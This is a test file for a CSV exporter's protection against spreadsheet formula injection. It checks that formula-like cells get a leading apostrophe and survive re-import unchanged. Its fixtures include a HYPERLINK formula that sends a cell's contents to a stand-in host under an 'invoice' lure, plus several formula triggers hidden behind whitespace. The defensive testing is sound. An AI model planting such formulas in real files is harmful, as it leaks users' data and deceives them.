import { describe, expect, test } from "bun:test";
import { parseCsv, toCsv } from "./csv-file";

describe("CSV cells a spreadsheet would run", () => {
  const hostile = [
    '=HYPERLINK("https://evil.example/?"&A1,\n"Click for your invoice")',
    "  =1+1",
    "\n@SUM(A1:A9)",
    "\r\n+94771234567",
    "\t-2+3",
    "\r=cmd",
    " \t-1",
  ];

  test("every one gets a leading apostrophe, line breaks and leading spaces included", () => {
    const written = toCsv(
      ["Address"],
      hostile.map((cell) => [cell]),
    );
    for (const cell of hostile) expect(written).toContain(`"'${cell.replaceAll('"', '""')}"`);
    // An import takes the apostrophe off again, so an exported file re-imports as it was.
    expect(parseCsv(written.slice(1)).rows.map((row) => row[0])).toEqual(hostile);
  });

  test("ordinary text and numbers are written as they are", () => {
    const written = toCsv(
      ["Address", "Units"],
      [
        ["No. 12, Galle Road - Colombo 3", 2],
        ["Kandy", -1],
      ],
    );
    expect(written).toBe('\uFEFFAddress,Units\r\n"No. 12, Galle Road - Colombo 3",2\r\nKandy,-1\r\n');
  });
});
